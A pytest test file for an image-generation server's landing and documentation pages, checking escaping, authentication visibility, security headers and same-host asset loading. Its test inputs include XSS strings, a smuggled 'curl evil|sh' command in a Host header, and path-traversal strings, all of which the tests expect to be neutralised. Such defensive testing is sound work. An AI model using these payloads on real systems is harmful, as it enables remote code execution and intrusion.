"""The first page and the documentation's pages: what they say, to whom, and that nothing comes from elsewhere."""

from __future__ import annotations

import re
from html.parser import HTMLParser
from pathlib import Path

import pytest
from fastapi import APIRouter, Request
from tests.server.test_auth import Vouching

from latentd import __version__
from latentd.hookspecs import hookimpl
from latentd.server.pages import STYLE, style_hash
from latentd.testing import AppFactory

PAGES = ["/", "/docs", "/redoc"]


class Elements(HTMLParser):
    """Tags of a page with their attributes, and its text."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.text = ""
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text += data

    def addresses(self) -> list[str]:
        """What the page loads and links to."""
        names = ("href", "src", "data-openapi", "spec-url", "action")
        return [value for _, attrs in self.found for name in names if (value := attrs.get(name)) and value != "data:,"]


def checkpoint(data_dir: Path, name: str) -> None:
    """A checkpoint without weights, which is listed all the same."""
    path = data_dir / "models" / "Stable-diffusion" / name
    path.parent.mkdir(parents=True, exist_ok=True)
    header = b'{"w":{"dtype":"F32","shape":[1],"data_offsets":[0,4]}}'
    path.write_bytes(len(header).to_bytes(8, "little") + header + bytes(4))


# --- the first page --------------------------------------------------------------------------------------------------


def test_a_server_without_a_model_says_how_to_add_one(latentd_app: AppFactory) -> None:
    reply = latentd_app().get("/")
    assert reply.status_code == 200
    assert reply.headers["content-type"] == "text/html; charset=utf-8"
    page = Elements(reply.text)
    assert f"latentd {__version__}" in page.text
    assert "There are none yet" in page.text
    assert str(latentd_app.data_dir / "models" / "Stable-diffusion") in page.text
    assert "curl -X POST http://localhost/sdapi/v1/refresh-checkpoints" in page.text


def test_a_server_with_models_names_them_and_the_next_command(latentd_app: AppFactory) -> None:
    checkpoint(latentd_app.data_dir, "a.safetensors")
    checkpoint(latentd_app.data_dir, "b.safetensors")
    client = latentd_app()
    titles = [row["title"] for row in client.get("/sdapi/v1/sd-models").json()]
    page = Elements(client.get("/").text)
    assert f"{titles[0]} (selected)" in page.text
    assert titles[1] in page.text
    assert "refresh-checkpoints" not in page.text
    assert "curl -s http://localhost/sdapi/v1/txt2img" in page.text
    for address in (address for address in page.addresses() if address != "/readyz"):
        assert client.get(address).status_code == 200, address


def test_many_models_are_counted(latentd_app: AppFactory) -> None:
    for number in range(45):
        checkpoint(latentd_app.data_dir, f"{number:02}.safetensors")
    page = Elements(latentd_app().get("/").text)
    assert page.text.count(".safetensors [") == 40
    assert "and 5 more" in page.text


@pytest.mark.parametrize("accept", ["*/*", "application/json", "text/html", "image/png"])
def test_clients_that_look_whether_a_server_is_there_get_200(latentd_app: AppFactory, accept: str) -> None:
    client = latentd_app()
    assert client.get("/", headers={"Accept": accept}).status_code == 200
    assert client.head("/", headers={"Accept": accept}).status_code == 200


@pytest.mark.parametrize("name", ["<script>alert(1)<.safetensors", "a&lt;b'\"><img src=x>.safetensors"])
def test_names_of_files_are_text(latentd_app: AppFactory, name: str) -> None:
    checkpoint(latentd_app.data_dir, name)
    client = latentd_app()
    page = Elements(client.get("/").text)
    assert client.get("/sdapi/v1/sd-models").json()[0]["title"] in page.text
    assert {"script", "img"}.isdisjoint(tag for tag, _ in page.found)


@pytest.mark.parametrize("host", ['x"><script>alert(1)</script>', "x';curl evil|sh;'", "a b"])
def test_the_name_that_a_client_gives_the_server_is_text(latentd_app: AppFactory, host: str) -> None:
    page = Elements(latentd_app(flags=["--allowed-hosts", "*"]).get("/", headers={"Host": host}).text)
    assert "script" not in {tag for tag, _ in page.found}
    for line in page.text.splitlines():
        if line.startswith("curl"):
            assert re.search(r"curl [^;|]*'http://[^']*'", line) or host not in line, line


def test_it_needs_no_script_and_its_policy_allows_none(latentd_app: AppFactory) -> None:
    reply = latentd_app().get("/")
    policy = reply.headers["content-security-policy"]
    assert "script-src" not in policy
    assert "default-src 'none'" in policy
    assert f"<style>{STYLE}</style>" in reply.text
    assert style_hash(STYLE) in policy


# --- who sees what ---------------------------------------------------------------------------------------------------


def test_strangers_see_no_models(latentd_app: AppFactory) -> None:
    checkpoint(latentd_app.data_dir, "secret.safetensors")
    client = latentd_app(flags=["--api-auth", "ann:pw", "--api-key", "key-1"])
    for stranger in ({}, {"Authorization": "Bearer no"}, {"Authorization": "Basic ???"}):
        reply = client.get("/", headers=stranger)
        assert reply.status_code == 200
        assert "secret" not in reply.text
        assert str(latentd_app.data_dir) not in reply.text
    assert "secret.safetensors" in client.get("/", auth=("ann", "pw")).text
    assert "-u USER:PASSWORD" in client.get("/", auth=("ann", "pw")).text
    assert "secret.safetensors" in client.get("/", headers={"Authorization": "Bearer key-1"}).text


def test_browsers_can_sign_in(latentd_app: AppFactory) -> None:
    client = latentd_app(flags=["--api-auth", "ann:pw"])
    assert "?sign-in" in Elements(client.get("/").text).addresses()
    asked = client.get("/?sign-in")
    assert (asked.status_code, asked.headers["www-authenticate"]) == (401, "Basic")
    assert client.get("/?sign-in", auth=("ann", "pw")).status_code == 200
    keys_only = latentd_app(flags=["--api-key", "key-1"])
    assert "?sign-in" not in keys_only.get("/").text
    assert "Authorization: Bearer KEY" in keys_only.get("/", headers={"Authorization": "Bearer key-1"}).text


def test_whom_a_plugin_vouches_for_sees_the_models(latentd_app: AppFactory) -> None:
    checkpoint(latentd_app.data_dir, "secret.safetensors")
    client = latentd_app(plugins=[Vouching()])
    assert "secret" not in client.get("/").text
    assert "secret" in client.get("/", headers={"X-Pass": "let me in"}).text


class Page:
    """A plugin with a page of its own."""

    @hookimpl
    def register_routes(self, services: object) -> list[APIRouter]:
        router = APIRouter()

        @router.get("/")
        async def page(request: Request) -> str:
            return "mine"

        return [router]


def test_a_plugin_may_have_the_first_page(latentd_app: AppFactory) -> None:
    assert latentd_app(plugins=[Page()]).get("/").json() == "mine"
    guarded = latentd_app(plugins=[Page()], flags=["--api-auth", "ann:pw"])
    assert guarded.get("/").status_code == 401, "the plugin did not say that its page is public"
    assert guarded.get("/", auth=("ann", "pw")).json() == "mine"


# --- documentation ---------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("path", PAGES)
@pytest.mark.parametrize("prefix", ["", "/sd"])
def test_pages_load_from_this_server_alone(latentd_app: AppFactory, prefix: str, path: str) -> None:
    client = latentd_app(flags=["--subpath", "sd"] if prefix else [])
    reply = client.get(prefix + path)
    assert reply.status_code == 200
    addresses = Elements(reply.text).addresses()
    assert addresses
    for address in addresses:
        assert address.startswith(f"{prefix}/"), "on this host, below the prefix"
        # The server answers with the prefix and without.
        assert client.get(address).status_code in (200, 503), address
        assert client.get(address.removeprefix(prefix)).status_code in (200, 503), address
    assert not re.search(r"https?:(?!//localhost)", reply.headers["content-security-policy"])
    assert "unsafe-eval" not in reply.headers["content-security-policy"]


@pytest.mark.parametrize("path", PAGES[1:])
def test_documentation_is_public(latentd_app: AppFactory, path: str) -> None:
    client = latentd_app(flags=["--api-auth", "ann:pw"])
    page = Elements(client.get(path).text)
    assert [client.get(address).status_code for address in page.addresses()] == [200] * len(page.addresses())


@pytest.mark.parametrize("name", ["", "nope.js", "..%2f..%2fapp.py", "%2e%2e/pages.py", "swagger.js%00"])
def test_nothing_else_is_served(latentd_app: AppFactory, name: str) -> None:
    assert latentd_app().get(f"/docs-assets/{name}").status_code == 404
